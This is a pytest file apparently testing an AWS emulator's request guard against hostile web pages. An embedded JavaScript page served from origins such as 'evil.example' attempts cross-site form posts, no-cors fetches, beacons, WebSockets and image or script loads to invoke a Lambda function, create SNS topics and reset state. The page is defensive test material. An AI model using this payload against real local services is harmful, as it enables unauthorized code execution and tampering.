"""Attacks of a web page on a running emulator, in a real browser: from another port, another site, another name."""

from __future__ import annotations

import contextlib
import http.server
import json
import queue
import secrets
import subprocess
import threading
import urllib.parse
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import boto3
import pytest

from busyhour.emulator.account import Account
from busyhour.emulator.app import build
from busyhour.emulator.messages import ApiError, Request
from busyhour.emulator.server.listener import running
from busyhour.emulator.server.request_guard import RequestGuard
from busyhour.scenarios.model import Function

pytestmark = [pytest.mark.browser, pytest.mark.slow]

SECONDS = 60
QUIET = (
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"),
    *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
)
HANDLER = """
from pathlib import Path

def handler(event, context):
    with Path(__file__).with_suffix(".ran").open("a") as file:
        file.write(str(event) + chr(10))
    return {}
"""
SCOPE = "X-Amz-Credential=AKID/20260101/us-east-1/{}/aws4_request"
INVOKE = f"/2015-03-31/functions/canary/invocations?{SCOPE.format('lambda')}&by="
TOPIC = f"/?Action=CreateTopic&Version=2010-03-31&{SCOPE.format('sns')}&Name="
PAGE = """<!doctype html><title>a page</title><body><script>
const target = TARGET, invoke = INVOKE, topic = TOPIC, found = {};
const settled = (name, promise) => promise.then((v) => { found[name] = v; }, (e) => { found[name] = "failed: " + e.name; });
const frame = (name) => { const made = document.createElement("iframe"); made.name = name; document.body.append(made); return made; };
const form = (name, enctype, method, action) => {
  const made = document.createElement("form");
  Object.assign(made, { action: target + action, method, enctype, target: name });
  const field = document.createElement("input");
  field.name = '{"by": "' + name + '", "x": "'; field.value = '"}';
  made.append(field); document.body.append(made); frame(name); made.submit();
};
const loads = (name, made, src) => settled(name, new Promise((done) => {
  made.onload = () => done("loaded"); made.onerror = () => done("error"); made.src = src; document.body.append(made);
}));
const text = { method: "POST", body: "{}", headers: { "Content-Type": "text/plain" } };
const json = { method: "POST", body: "{}", headers: { "Content-Type": "application/json" } };
const status = (answer) => answer.type === "opaque" ? "opaque" : answer.status;
(async () => {
  form("form-plain", "text/plain", "post", invoke + "form-plain");
  form("form-urlencoded", "application/x-www-form-urlencoded", "post", invoke + "form-urlencoded");
  form("form-multipart", "multipart/form-data", "post", invoke + "form-multipart");
  form("form-admin", "text/plain", "post", "/_busyhour/reset");
  navigator.sendBeacon(target + invoke + "beacon", "{}");
  navigator.sendBeacon(target + invoke + "beacon-untyped", new Blob(["{}"]));
  frame("frame-get").src = target + topic + "frame";
  await Promise.all([
    settled("no-cors", fetch(target + invoke + "no-cors", { ...text, mode: "no-cors" }).then(status)),
    settled("no-cors-untyped", fetch(target + invoke + "untyped", { method: "POST", body: new Blob(["{}"]), mode: "no-cors" }).then(status)),
    settled("no-cors-quiet", fetch(target + invoke + "quiet", { ...text, mode: "no-cors", referrerPolicy: "no-referrer", credentials: "omit" }).then(status)),
    settled("cors", fetch(target + invoke + "cors", json).then(status)),
    settled("read", fetch(target + "/_busyhour/snapshot").then((a) => a.text())),
    settled("participant", fetch(target + "/participant/message", { ...json, headers: { ...json.headers, "X-Amz-Bearer": "x" } }).then(status)),
    settled("health", fetch(target + "/_busyhour/health").then((a) => a.text())),
    settled("keepalive", fetch(target + invoke + "keepalive", { ...text, mode: "no-cors", keepalive: true }).then(status)),
    settled("xhr", new Promise((done) => {
      const asked = new XMLHttpRequest();
      asked.onload = () => done(asked.status); asked.onerror = () => done("error");
      asked.open("POST", target + invoke + "xhr"); asked.setRequestHeader("Content-Type", "text/plain"); asked.send("{}");
    })),
    settled("websocket", new Promise((done) => {
      const made = new WebSocket(target.replace("http", "ws") + "/_busyhour/snapshot");
      made.onopen = () => done("open"); made.onerror = () => done("error");
    })),
    loads("image", document.createElement("img"), target + topic + "image"),
    loads("script", document.createElement("script"), target + topic + "script"),
  ]);
  await new Promise((done) => setTimeout(done, 1500));
  await fetch("/found", { method: "POST", body: JSON.stringify(found) });
})();
</script>"""


class Unguarded(RequestGuard):
    """Accepts every request, as if it came from a program: shows that the attacks work where nothing refuses them."""

    def refusal(self, request: Request) -> ApiError | None:
        for name in ("origin", "sec-fetch-site"):
            request.headers.pop(name, None)  # type: ignore[attr-defined]  # a dict
        return None


@contextlib.contextmanager
def attacker(target: Callable[[], str]) -> Iterator[tuple[int, queue.Queue[dict[str, Any]]]]:
    """A web server whose page attacks `target()`; gives its port and what its page found."""
    told: queue.Queue[dict[str, Any]] = queue.Queue()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            page = PAGE
            for name, value in (("TARGET", target()), ("INVOKE", INVOKE), ("TOPIC", TOPIC)):
                page = page.replace(f" {name}", f" {json.dumps(value)}", 1)
            self._answer(page.encode())

        def do_POST(self) -> None:
            told.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self._answer(b"")

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port, told
        server.shutdown()


class Attacked:
    """An emulator with a function and what attacks have done to it."""

    def __init__(self, url: str, canary: Path) -> None:
        self.url = url
        self._ran = canary.with_suffix(".ran")

    @property
    def ran(self) -> list[str]:
        """The function's invocations."""
        return self._ran.read_text().splitlines() if self._ran.exists() else []

    @property
    def topics(self) -> list[str]:
        """Names of the SNS topics that exist."""
        sns = boto3.client(
            "sns", endpoint_url=self.url, region_name="us-east-1", aws_access_key_id="k", aws_secret_access_key="s"
        )  # fmt: skip
        return sorted(topic["TopicArn"].rpartition(":")[2] for topic in sns.list_topics()["Topics"])


@pytest.fixture
def browse(need: Callable[[str], str], tmp_path: Path) -> Callable[..., dict[str, Any]]:
    """Opens the attacking page under `name`, and gives what it found at `target`."""
    chromium = need("chromium")

    def run(name: str, target: str) -> dict[str, Any]:
        with attacker(lambda: target) as (port, told):
            command = [
                *(chromium, *QUIET, f"--user-data-dir={tmp_path / 'profile'}", "--remote-debugging-port=0"),
                "--host-resolver-rules=MAP *.example 127.0.0.1",
                f"http://{name}:{port}/",
            ]
            with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as process:
                try:
                    return told.get(timeout=SECONDS)
                finally:
                    process.terminate()

    return run


@contextlib.contextmanager
def attacked(folder: Path, guard: RequestGuard | None = None) -> Iterator[Attacked]:
    canary = folder / "canary.py"
    canary.write_text(HANDLER)
    # moto keeps its state for the whole process, by account.
    account = Account(f"{secrets.randbelow(10**12):012d}")
    emulator = build(account=account, functions=[Function("canary", handler=f"{canary}:handler")])
    with running(emulator, guard=guard) as url:
        yield Attacked(url, canary)


def test_without_the_guard_the_attacks_work(browse, tmp_path):
    with attacked(tmp_path, Unguarded()) as aws:
        found = browse("127.0.0.1", aws.url)
        assert found["no-cors"] == "opaque"
        assert len(aws.ran) >= 8
        assert {"frame", "image", "script"} <= set(aws.topics)


@pytest.mark.parametrize(
    ("page", "name"),
    [
        ("127.0.0.1", "127.0.0.1"),  # another port
        ("localhost", "localhost"),
        ("localhost", "127.0.0.1"),  # another site
        ("evil.example", "127.0.0.1"),
        ("evil.example", "localhost"),
        ("evil.localhost", "localhost"),
        ("evil.example", "evil.example"),  # its own name, resolved to loopback
        ("evil.example", "0.0.0.0"),
    ],
)
def test_no_attack_of_a_page_runs_code_changes_or_reads_anything(browse, tmp_path, page, name):
    with attacked(tmp_path) as aws:
        found = browse(page, f"http://{name}:{urllib.parse.urlsplit(aws.url).port}")
        assert aws.ran == []
        assert aws.topics == []
    assert set(found) >= {
        "no-cors",
        "cors",
        "read",
        "health",
        "xhr",
        "websocket",
        "image",
        "script",
        "participant",
    }
    for way in ("read", "health", "cors", "participant"):
        assert str(found[way]).startswith("failed"), (way, found[way])
    assert found["xhr"] == found["websocket"] == found["image"] == found["script"] == "error"


def test_a_page_of_an_allowed_origin_has_the_participant_api_alone(browse, tmp_path):
    class Late(RequestGuard):
        """Allows the origin of the page at localhost: its port is known only then."""

        def refusal(self, request: Request) -> ApiError | None:
            origin = request.headers.get("origin", "")
            if origin.startswith("http://localhost:"):
                self._origins.add(origin)
            return super().refusal(request)

    with attacked(tmp_path, Late()) as aws:
        found = browse("localhost", aws.url)
        assert aws.ran == []
        assert aws.topics == []
    assert found["participant"] == 403  # read by the page: its token is invalid
    for way in ("read", "health", "cors"):
        assert str(found[way]).startswith("failed"), (way, found[way])
    assert found["websocket"] == found["xhr"] == "error"
